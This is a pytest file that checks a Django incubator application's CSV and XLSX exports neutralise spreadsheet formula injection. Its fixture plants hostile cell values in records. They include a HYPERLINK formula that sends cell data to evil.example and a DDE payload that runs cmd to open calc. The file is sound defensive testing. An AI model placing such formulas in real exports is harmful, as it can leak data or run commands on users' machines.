"""Every export path writes a cell that a spreadsheet would run as a formula (= + - @
tab CR NUL at its start) as plain text, through the one sanitiser of
``incubator.imports``: the back office's exports (people, applications, attendance,
tutoring sessions, grants, tranches, expenses, de minimis, campaigns) in CSV, Italian CSV
and XLSX, the registers to fill in, the tutors' timesheets, the cohort report and the
pseudonymised export (CSV and XLSX, also through the API), and the access export."""

import re
from pathlib import Path

import pytest

from cohorts.reports import exports as cohort_exports
from cohorts.reports import services as services_reports
from incubator.imports import formats as importing
from incubator.models import Person, Programme, Venture
from tests.trust.helpers import FORMULA_TRIGGERS, admin_export, body_of, browser, cells_of

pytestmark = pytest.mark.django_db

NUMBER = re.compile(r"-?\d+([.,]\d+)?")
MALICIOUS = {
    "venture": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "first_name": "+SUM(1+1)",
    "last_name": "@cmd",
    "cohort": "-2+3+cmd|' /C calc'!A0",
    "topic": "\t=1+1",
    "tutoring": "\r=1+1",
    "programme": "=1+1 programme",
}


def assert_neutralised(content: bytes, where: str, expected: int = 1) -> None:
    """No cell starts with a trigger (numbers aside), no XLSX cell is a formula, and at
    least ``expected`` cells carry a value we planted, neutralised."""
    planted = 0
    for cell in cells_of(content):
        assert not (isinstance(cell, tuple) and cell[0] == "FORMULA"), (where, cell)
        if not isinstance(cell, str) or NUMBER.fullmatch(cell):
            continue
        assert not cell.startswith(FORMULA_TRIGGERS), (where, cell)
        if cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS):
            planted += 1
    assert planted >= expected, (where, planted)


@pytest.fixture
def poisoned(full_a):
    """Programme A's records with a formula at the start of their text fields."""
    Venture.objects.filter(pk=full_a.venture.pk).update(title=MALICIOUS["venture"])
    Person.objects.filter(pk__in=[full_a.person.pk, full_a.teammate.pk]).update(
        first_name=MALICIOUS["first_name"], last_name=MALICIOUS["last_name"]
    )
    Programme.objects.filter(pk=full_a.programme.pk).update(name=MALICIOUS["programme"])
    full_a.cohort.name = MALICIOUS["cohort"]
    full_a.cohort.save(update_fields=["name"])
    full_a.session.topic = MALICIOUS["topic"]
    full_a.session.save(update_fields=["topic"])
    full_a.tutoring_session.topics = MALICIOUS["tutoring"]
    full_a.tutoring_session.save(update_fields=["topics"])
    full_a.attendance.note = "=1+1"
    full_a.attendance.save(update_fields=["note"])
    full_a.expense_item.supplier = "@SUM(A1)"
    full_a.expense_item.save(update_fields=["supplier"])
    full_a.campaign.platform = "+platform"
    full_a.campaign.save(update_fields=["platform"])
    full_a.de_minimis.granting_body = "-body"
    full_a.de_minimis.save(update_fields=["granting_body"])
    return full_a


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+x", "@A1", "\tx", "\rx", "\0x"])
def test_the_one_sanitiser(value):
    assert importing.neutralise(value) == "'" + value
    assert importing.cell_text(value) == "'" + value
    # XLSX cannot hold NUL: it is dropped first, and what follows is neutralised.
    assert not cohort_exports.xlsx_cell(value).startswith(FORMULA_TRIGGERS)
    assert cohort_exports.xlsx_cell("\0=1+1") == "'=1+1"
    assert importing.neutralise("plain") == "plain" and importing.neutralise(-1) == -1


@pytest.mark.parametrize(
    "model",
    [
        "incubator/person",
        "incubator/application",
        "cohorts/attendance",
        "mentoring/tutoringsession",
        "incubator/grant",
        "incubator/tranche",
        "incubator/expenseitem",
        "incubator/deminimisaid",
        "incubator/crowdfundingcampaign",
    ],
)
@pytest.mark.parametrize("file_format", ["0", "1", "2"])  # CSV, Italian CSV, XLSX
def test_back_office_exports(poisoned, model, file_format):
    response = admin_export(browser(poisoned.world.coordinator), model, file_format)
    expected = 0 if model == "incubator/tranche" else 1  # a tranche's columns hold no free text
    assert_neutralised(body_of(response), f"{model} {file_format}", expected)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_registers_to_fill_in(poisoned, file_format):
    response = browser(poisoned.world.coordinator).post(
        "/admin/cohorts/trainingsession/",
        {"action": "export_registers", "_selected_action": [poisoned.session.pk], "format": file_format, "_apply": "1"},
    )
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    assert_neutralised(body_of(response), file_format)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_timesheets(poisoned, file_format):
    day = poisoned.tutoring_session.starts_at
    url = f"/tutor/timesheet/{poisoned.profile.pk}/{day.year}/{day.month}/export.{file_format}"
    response = browser(poisoned.world.tutor).get(url)
    assert response.status_code == 200
    assert_neutralised(body_of(response), file_format)


@pytest.mark.parametrize("kind", ["report_csv", "report_xlsx", "pseudonymised_csv", "pseudonymised_xlsx"])
def test_report_exports_from_the_dashboard_and_the_api(poisoned, kind):
    coordinator = poisoned.world.coordinator
    export = services_reports.report_export_request(
        actor=coordinator, programme=poisoned.programme, kind=kind, cohort=poisoned.cohort
    )
    client = browser(coordinator)
    for url in (f"/dashboard/exports/{export.pk}/download/", f"/api/v1/report-exports/{export.pk}/download/"):
        response = client.get(url)
        assert response.status_code == 200, url
        # The pseudonymised rows name the cohort by id: the planted text is in the scope of the report only.
        assert_neutralised(body_of(response), url, expected=0 if kind.startswith("pseudonymised") else 1)


def test_access_export_csv(poisoned):
    response = browser(poisoned.world.coordinator).get(f"/people/{poisoned.teammate.pk}/data.csv")
    assert response.status_code == 200
    assert_neutralised(body_of(response), "personal data", expected=3)
    response = browser(poisoned.world.participant).get("/my-path/data.csv")
    assert_neutralised(body_of(response), "my data", expected=3)


def test_no_module_keeps_its_own_list_of_formula_triggers():
    """One sanitiser: the trigger characters are spelled out in ``incubator.imports`` only."""
    root = Path(__file__).resolve().parents[2]
    pattern = re.compile(r"""\(\s*["']=["']\s*,\s*["']\+["']\s*,\s*["']-["']\s*,\s*["']@["']""")
    found = [
        str(path.relative_to(root))
        for app in ("incubator", "cohorts", "mentoring", "api", "config")
        for path in (root / app).rglob("*.py")
        if pattern.search(path.read_text())
    ]
    assert found == ["incubator/imports/cells.py"], found


@pytest.mark.parametrize("file_format", ["0", "1", "2"])
def test_streamed_back_office_exports(poisoned, monkeypatch, file_format):
    """Large exports are streamed row by row: the same cells, the same neutralisation."""
    monkeypatch.setattr(importing, "STREAM_AFTER_ROWS", 0)
    response = admin_export(browser(poisoned.world.coordinator), "incubator/person", file_format)
    assert response.streaming
    assert_neutralised(body_of(response), f"streamed {file_format}")
